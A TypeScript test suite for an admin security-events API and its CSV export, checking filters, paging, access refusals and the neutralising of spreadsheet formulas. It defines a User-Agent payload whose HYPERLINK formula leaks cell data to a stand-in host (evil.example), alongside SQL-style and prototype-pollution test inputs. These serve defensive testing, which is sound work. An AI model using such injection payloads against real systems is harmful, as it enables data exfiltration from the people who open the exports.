import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import {
  SECURITY_EVENT_CSV_COLUMNS,
  type AdminSecurityEvent,
  type AdminSecurityEventsInput,
} from '#shared/schemas/security-monitoring.ts';
import type { SecurityEventType } from '#shared/security-events.ts';
import { exportSecurityEvents } from '#server/modules/audit/security-monitoring.ts';
import { SecurityEventEntity } from '#server/modules/audit/security-event.entity.ts';
import { UserEntity } from '#server/modules/users/user.entity.ts';
import { signIn, signUpAdmin } from '#tests/helpers/admin.ts';
import {
  expectReason,
  signUpAndVerify,
  startTestServer,
  testIp,
  type SignedUp,
  type TestServer,
} from '#tests/helpers/test-server.ts';

const FIREFOX = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
const SAFARI =
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1';
// What an attacker can put in a User-Agent to have a spreadsheet run it when the export is opened.
const FORMULA_AGENT = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details"), really';

type Filter = Omit<NonNullable<AdminSecurityEventsInput>, 'cursor' | 'limit'>;

let server: TestServer;
let admin: SignedUp;
let ann: SignedUp;
let bob: SignedUp;
let annLaptopIp: string;
let annPhoneIp: string;
/** When the steps of beforeAll happened, by the server's clock. */
const marks: Record<string, string> = {};

const adminCall = (input: AdminSecurityEventsInput) => admin.client.trpc.admin.securityEvents.query(input);

/** Every page of the list for these filters, checking each as it comes. */
async function walk(filter: Filter, limit: number): Promise<{ items: AdminSecurityEvent[]; pages: number }> {
  const items: AdminSecurityEvent[] = [];
  let cursor: string | undefined;
  for (let pages = 1; pages < 1000; pages++) {
    const page = await adminCall({ ...filter, limit, ...(cursor ? { cursor } : {}) });
    expect(page.items.length).toBeLessThanOrEqual(limit);
    items.push(...page.items);
    if (page.nextCursor === null) return { items, pages };
    expect(page.items).toHaveLength(limit);
    cursor = page.nextCursor;
  }
  throw new Error('the pages never end');
}

const everything = async (filter: Filter = {}) => (await walk(filter, 100)).items;

function expectNewestFirst(items: AdminSecurityEvent[]) {
  for (let i = 1; i < items.length; i++) {
    const [before, after] = [items[i - 1]!, items[i]!];
    const order = Date.parse(before.at) - Date.parse(after.at) || (before.id > after.id ? 1 : -1);
    expect(order, `${before.at} ${before.id} then ${after.at} ${after.id}`).toBeGreaterThan(0);
  }
}

/** The export as rows of cells (RFC 4180: quoted fields, doubled quotes, CRLF line ends). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += char;
  }
  expect(cell, 'the file ends with a line end').toBe('');
  expect(row).toEqual([]);
  return rows;
}

/** How a cell of the export shows a field: empty for null, a leading apostrophe before a formula. */
const asCell = (value: string | null) => (value === null ? '' : /^[=+\-@\t\r]/.test(value) ? `'${value}` : value);

function exportUrl(filter: Record<string, string> = {}): string {
  const query = new URLSearchParams(filter).toString();
  return `/admin/security-events.csv${query ? `?${query}` : ''}`;
}

async function exportCsv(filter: Record<string, string> = {}, bearer = admin.client.bearer) {
  const response = await server.fetch(exportUrl(filter), {
    headers: bearer ? { Authorization: `Bearer ${bearer}` } : {},
  });
  return { response, text: await response.text() };
}

beforeAll(async () => {
  server = await startTestServer();
  // Steps a few seconds apart, so the order of the events is the order of the steps.
  let offset = 0;
  const later = (mark?: string) => {
    server.shiftClock((offset += 3));
    if (mark) marks[mark] = server.app.deps.now().toISOString();
  };
  admin = await signUpAdmin(server, { name: 'Ada Admin' });
  later('annSignedUp');
  annLaptopIp = testIp();
  ann = await signUpAndVerify(server, { name: 'Ann' }, { userAgent: FIREFOX, ip: annLaptopIp });
  later('bobSignedUp');
  bob = await signUpAndVerify(server, { name: 'Bob' }, { userAgent: SAFARI });
  later('annOnPhone');
  annPhoneIp = testIp();
  await signIn(server, ann.email, ann.password, { userAgent: SAFARI, ip: annPhoneIp });
  later('bobFailed');
  const failed = server.client({ userAgent: FORMULA_AGENT });
  await expectReason(
    failed.trpc.auth.login.mutate({ email: bob.email, password: `${bob.password}x` }),
    'UNAUTHORIZED',
    'INVALID_CREDENTIALS',
  );
  later('adminActed');
  await admin.client.trpc.admin.users.revokeSessions.mutate({ userId: bob.session.user.id });
  later('end');
  await signIn(server, bob.email, bob.password, { userAgent: SAFARI });
});
afterAll(async () => {
  await server?.close();
});

describe('admin.securityEvents', () => {
  test('admin.securityEvents lists the events of every member newest first, with who, where and which admin', async () => {
    const items = await everything();
    expectNewestFirst(items);
    for (const item of items) {
      expect(Object.keys(item).sort()).toEqual(['actorId', 'at', 'id', 'ip', 'type', 'userAgent', 'userId']);
      expect(new Date(item.at).toISOString()).toBe(item.at);
    }
    expect(new Set(items.map((item) => item.id)).size).toBe(items.length);
    const users = new Set(items.map((item) => item.userId));
    for (const member of [admin, ann, bob]) expect(users).toContain(member.session.user.id);

    const byAdmin = items.find((item) => item.type === 'sessions.revoked_by_admin');
    expect(byAdmin).toMatchObject({ userId: bob.session.user.id, actorId: admin.session.user.id, ip: admin.client.ip });
    const failure = items.find((item) => item.type === 'login.failed');
    expect(failure).toMatchObject({ userId: bob.session.user.id, userAgent: FORMULA_AGENT, actorId: null });
    const annOnPhone = items.find((item) => item.type === 'session.started' && item.ip === annPhoneIp);
    expect(annOnPhone).toMatchObject({ userId: ann.session.user.id, userAgent: SAFARI });
    // Bob's last sign-in comes after the admin signed him out, and after Ann's phone.
    const order = (item: AdminSecurityEvent | undefined) => items.indexOf(item!);
    expect(order(byAdmin)).toBeLessThan(order(failure));
    expect(order(failure)).toBeLessThan(order(annOnPhone));
    expect(items[0]).toMatchObject({ type: 'session.started', userId: bob.session.user.id });
  });

  test('admin.securityEvents narrows to one type, one member, one address, or a time range', async () => {
    const all = await everything();
    const expectSubset = (items: AdminSecurityEvent[], keep: (item: AdminSecurityEvent) => boolean) => {
      expect(items.length).toBeGreaterThan(0);
      expect(items.length).toBeLessThan(all.length);
      expect(items).toEqual(all.filter(keep));
    };

    expectSubset(await everything({ type: 'session.started' }), (item) => item.type === 'session.started');
    const annId = ann.session.user.id;
    expectSubset(await everything({ userId: annId }), (item) => item.userId === annId);
    expectSubset(await everything({ ip: annLaptopIp }), (item) => item.ip === annLaptopIp);
    const { annSignedUp, annOnPhone } = marks as { annSignedUp: string; annOnPhone: string };
    const within = (item: AdminSecurityEvent) => item.at >= annSignedUp && item.at <= annOnPhone;
    expectSubset(await everything({ from: annSignedUp, to: annOnPhone }), within);
    expectSubset(await everything({ from: annOnPhone }), (item) => item.at >= annOnPhone);
    expectSubset(await everything({ to: annSignedUp }), (item) => item.at <= annSignedUp);
    expectSubset(
      await everything({ userId: annId, type: 'session.started', to: annOnPhone }),
      (item) => item.userId === annId && item.type === 'session.started' && item.at <= annOnPhone,
    );

    // Both ends are included: a range of one instant holds that instant's events.
    const verified = all.find((item) => item.userId === annId && item.type === 'email.verified')!;
    const instant = await everything({ from: verified.at, to: verified.at });
    expect(instant).toContainEqual(verified);
    expect(instant).toEqual(all.filter((item) => item.at === verified.at));
    expect(await everything({ userId: annId, ip: testIp() })).toEqual([]);
  });

  test('admin.securityEvents pages through every event once, in order, however small the pages', async () => {
    const all = await everything();
    for (const limit of [1, 2, 7]) {
      const { items, pages } = await walk({}, limit);
      expect(items).toEqual(all);
      // A last page that is exactly full says so: no empty page after it.
      expect(pages).toBe(Math.ceil(all.length / limit));
    }
    // And with a filter kept across the pages.
    const started = await everything({ type: 'session.started' });
    expect((await walk({ type: 'session.started' }, 2)).items).toEqual(started);
  });

  test('admin.securityEvents gives 50 events a page unless asked, and no more than 100', async () => {
    const em = server.app.deps.orm.em.fork();
    const seeded = await em.findOneOrFail(UserEntity, { id: ann.session.user.id });
    const start = Date.parse(marks.end!) + 60_000;
    for (let i = 0; i < 120; i++)
      em.create(SecurityEventEntity, {
        user: seeded,
        type: 'mfa.failed',
        at: new Date(start + i),
        ip: annLaptopIp,
        userAgent: FIREFOX,
        actorId: null,
        provider: null,
      });
    await em.flush();
    try {
      const first = await adminCall({ type: 'mfa.failed' });
      expect(first.items).toHaveLength(50);
      const wide = await adminCall({ type: 'mfa.failed', limit: 100 });
      expect(wide.items).toHaveLength(100);
      expect(wide.items.slice(0, 50)).toEqual(first.items);
      const rest = await adminCall({ type: 'mfa.failed', limit: 100, cursor: wide.nextCursor! });
      expect(rest).toMatchObject({ nextCursor: null });
      expect(rest.items).toHaveLength(20);
    } finally {
      await em.nativeDelete(SecurityEventEntity, { type: 'mfa.failed' });
    }
  });

  test('admin.securityEvents keeps the events of an erased account, without whose they were', async () => {
    const gone = await signUpAndVerify(server, { name: 'Gone' });
    const goneId = gone.session.user.id;
    expect((await everything({ userId: goneId })).length).toBeGreaterThan(0);
    await gone.client.trpc.privacy.deleteAccount.mutate({ password: gone.password });
    expect(await everything({ userId: goneId })).toEqual([]);
    const [deleted] = await everything({ type: 'account.deleted' });
    expect(deleted).toMatchObject({ userId: null, ip: null, userAgent: null });
  });

  test('admin.securityEvents refuses members with FORBIDDEN and the signed out with UNAUTHENTICATED', async () => {
    await expectReason(ann.client.trpc.admin.securityEvents.query({}), 'FORBIDDEN', 'FORBIDDEN');
    await expectReason(server.client().trpc.admin.securityEvents.query({}), 'UNAUTHORIZED', 'UNAUTHENTICATED');
    await expectReason(
      server.client({ bearer: 'not-a-token' }).trpc.admin.securityEvents.query({}),
      'UNAUTHORIZED',
      'UNAUTHENTICATED',
    );
  });

  test('admin.securityEvents refuses bad filters with BAD_REQUEST and says which field is wrong', async () => {
    const cases: Array<[Record<string, unknown>, string]> = [
      [{ type: 'session.stolen' }, 'type'],
      [{ type: 7 }, 'type'],
      [{ userId: 'no spaces' }, 'userId'],
      [{ userId: 'x'.repeat(65) }, 'userId'],
      [{ ip: '198.18.0.1; drop table' }, 'ip'],
      [{ ip: '1'.repeat(46) }, 'ip'],
      [{ from: 'yesterday' }, 'from'],
      [{ to: '2026-12-04' }, 'to'],
      [{ from: '2026-12-04T10:00:00.000Z', to: '2026-12-04T09:59:59.999Z' }, 'to'],
      [{ limit: 0 }, 'limit'],
      [{ limit: 101 }, 'limit'],
      [{ limit: 2.5 }, 'limit'],
      [{ cursor: 'bm90IGEgY3Vyc29y' }, 'cursor'],
    ];
    for (const [input, field] of cases) {
      const error = await expectReason(adminCall(input as never), 'BAD_REQUEST', 'INVALID_INPUT');
      expect(Object.keys(error.data?.fieldErrors ?? {}), JSON.stringify(input)).toEqual([field]);
      expect(error.data?.fieldErrors?.[field]?.[0]).toMatch(/\w/);
    }
    // A key the procedure does not know is refused too, rather than ignored as if it filtered.
    const unknown = await expectReason(adminCall({ actorId: 'x' } as never), 'BAD_REQUEST', 'INVALID_INPUT');
    expect(unknown.message).toContain('actorId');
  });
});

test('admin.securityEvents answers the same through the REST form, its filters as query parameters', async () => {
  const get = (query: string, bearer = admin.client.bearer) =>
    server.fetch(`/api/v1/admin/securityEvents?${query}`, { headers: { Authorization: `Bearer ${bearer}` } });
  const response = await get(`type=session.started&userId=${ann.session.user.id}&limit=1`);
  expect(response.status).toBe(200);
  expect(await response.json()).toEqual(
    await adminCall({ type: 'session.started', userId: ann.session.user.id, limit: 1 }),
  );
  const refused = await get('from=2026-12-04T10:00:00.000Z&to=2026-12-04T09:00:00.000Z');
  expect(refused.status).toBe(400);
  expect(await refused.json()).toMatchObject({ reason: 'INVALID_INPUT', fieldErrors: { to: [expect.any(String)] } });
  expect((await get('', ann.client.bearer)).status).toBe(403);
});

describe('GET /admin/security-events.csv', () => {
  test('GET /admin/security-events.csv is the list as a file: a header row, then the same rows newest first', async () => {
    const { response, text } = await exportCsv();
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="security-events.csv"');
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual([...SECURITY_EVENT_CSV_COLUMNS]);
    const all = await everything();
    expect(rows).toEqual(all.map((item) => SECURITY_EVENT_CSV_COLUMNS.map((column) => asCell(item[column]))));
  });

  test('GET /admin/security-events.csv applies the filters of the list, given as query parameters', async () => {
    const filters: Array<Record<string, string>> = [
      { type: 'session.started' },
      { userId: ann.session.user.id },
      { ip: annPhoneIp },
      { from: marks.annSignedUp!, to: marks.annOnPhone! },
      { userId: bob.session.user.id, type: 'login.failed' },
      // A blank field of a form is no filter at all.
      { type: '', ip: '', from: marks.bobSignedUp! },
    ];
    for (const filter of filters) {
      const { response, text } = await exportCsv(filter);
      expect(response.status, JSON.stringify(filter)).toBe(200);
      const listed = await everything(
        Object.fromEntries(Object.entries(filter).filter(([, value]) => value !== '')) as Filter,
      );
      expect(listed.length).toBeGreaterThan(0);
      expect(
        parseCsv(text)
          .slice(1)
          .map((row) => row[0]),
      ).toEqual(listed.map((item) => asCell(item.id)));
    }
  });

  test('GET /admin/security-events.csv neutralises a user agent a spreadsheet would run as a formula', async () => {
    const agents = ['+SUM(1,2)', '-2+3', '@SUM(A1)'];
    for (const userAgent of agents)
      await expectReason(
        server.client({ userAgent }).trpc.auth.login.mutate({ email: bob.email, password: `${bob.password}x` }),
        'UNAUTHORIZED',
        'INVALID_CREDENTIALS',
      );
    const { text } = await exportCsv({ userId: bob.session.user.id, type: 'login.failed' });
    const cells = parseCsv(text)
      .slice(1)
      .map((row) => row[SECURITY_EVENT_CSV_COLUMNS.indexOf('userAgent')]);
    expect(cells.sort()).toEqual([...agents, FORMULA_AGENT].map((agent) => `'${agent}`).sort());
    // On the wire: quoted (it has quotes and a comma), the quotes doubled, the apostrophe inside.
    expect(text).toContain(`"'${FORMULA_AGENT.replaceAll('"', '""')}"`);
    for (const line of text.split('\r\n')) expect(line).not.toMatch(/(^|,)[=+\-@]/);
  });

  test('GET /admin/security-events.csv streams every matching row in batches, and the export stops at its cap', async () => {
    const em = server.app.deps.orm.em.fork();
    const seeded = await em.findOneOrFail(UserEntity, { id: bob.session.user.id });
    const start = Date.parse(marks.end!) + 120_000;
    const type: SecurityEventType = 'passkey.counter_mismatch';
    for (let i = 0; i < 2500; i++)
      em.create(SecurityEventEntity, {
        user: seeded,
        type,
        // Pairs share an instant: the id alone orders them.
        at: new Date(start + Math.floor(i / 2)),
        ip: null,
        userAgent: null,
        actorId: null,
        provider: null,
      });
    await em.flush();
    try {
      const { response, text } = await exportCsv({ type });
      expect(response.status).toBe(200);
      const rows = parseCsv(text).slice(1);
      expect(rows).toHaveLength(2500);
      expect(new Set(rows.map((row) => row[0])).size).toBe(2500);
      const times = rows.map((row) => Date.parse(row[2]!));
      expect([...times].sort((a, b) => b - a)).toEqual(times);

      const capped: AdminSecurityEvent[] = [];
      for await (const batch of await exportSecurityEvents(server.app.deps.orm.em.fork(), { type }, 1500))
        capped.push(...batch);
      expect(capped.map((event) => asCell(event.id))).toEqual(rows.slice(0, 1500).map((row) => row[0]));
    } finally {
      await em.nativeDelete(SecurityEventEntity, { type });
    }
  });

  test('GET /admin/security-events.csv answers 401 without a valid bearer and 403 to a member, as JSON', async () => {
    const refusals: Array<[string | null, number, string]> = [
      [null, 401, 'UNAUTHENTICATED'],
      ['not-a-token', 401, 'UNAUTHENTICATED'],
      [ann.client.bearer, 403, 'FORBIDDEN'],
    ];
    for (const [bearer, status, reason] of refusals) {
      const { response, text } = await exportCsv({}, bearer);
      expect(response.status).toBe(status);
      expect(response.headers.get('content-type')).toMatch(/^application\/json/);
      expect(response.headers.get('cache-control')).toBe('no-store');
      expect(response.headers.get('content-disposition')).toBeNull();
      expect(JSON.parse(text)).toMatchObject({ error: { data: { httpStatus: status, reason } } });
      if (status === 401) expect(response.headers.get('www-authenticate')).toBe('Bearer');
    }
    // A cookie is not a bearer: the refresh cookie's path is /trpc, and a page link must not export.
    const cookie = await server.fetch(exportUrl(), {
      headers: { Cookie: `refresh_token=${ann.client.refreshToken()}` },
    });
    expect(cookie.status).toBe(401);
  });

  test('GET /admin/security-events.csv refuses bad filters with 400, the reason and the field, never a 500', async () => {
    const cases: Array<[string, string | null]> = [
      ['type=session.stolen', 'type'],
      ['userId=%00', 'userId'],
      ['ip=not-an-address', 'ip'],
      ['from=soon', 'from'],
      ['from=2026-12-04T10:00:00.000Z&to=2026-12-04T09:00:00.000Z', 'to'],
      ['type=login.failed&type=session.started', 'type'],
      ['limit=5', null],
      ['cursor=abc', null],
      ['%E0%A4%A=1', null],
      ['__proto__=x', null],
      ['constructor=x&toString=y', null],
    ];
    for (const [query, field] of cases) {
      const response = await server.fetch(`/admin/security-events.csv?${query}`, {
        headers: { Authorization: `Bearer ${admin.client.bearer}` },
      });
      expect(response.status, query).toBe(400);
      const body = (await response.json()) as {
        error: { message: string; data: { reason: string; fieldErrors?: Record<string, string[]> } };
      };
      expect(body.error.data.reason).toBe('INVALID_INPUT');
      expect(body.error.message).toMatch(/\w/);
      if (field) expect(Object.keys(body.error.data.fieldErrors ?? {}), query).toEqual([field]);
    }
  });
});
